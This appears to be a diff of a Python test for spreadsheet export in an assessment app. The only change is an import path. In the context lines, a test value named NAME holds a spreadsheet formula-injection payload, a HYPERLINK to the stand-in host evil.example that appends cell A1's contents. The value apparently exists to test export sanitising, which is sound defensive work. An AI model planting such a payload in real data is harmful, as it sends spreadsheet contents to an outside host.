@@ -15,7 +15,7 @@ from assessments.models import AssessmentStatus, ReviewEvent
 from learning_units import spreadsheets
 from learning_units.imports.workbooks import errors_workbook, export_file
 from tests.factories import UserFactory
-from tests.review_factories import YEAR, make_assessment, review_world_in_admin
+from tests.factories.review import YEAR, make_assessment, review_world_in_admin
 
 NAME = '=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn A")'
 COMMENT = "+1"
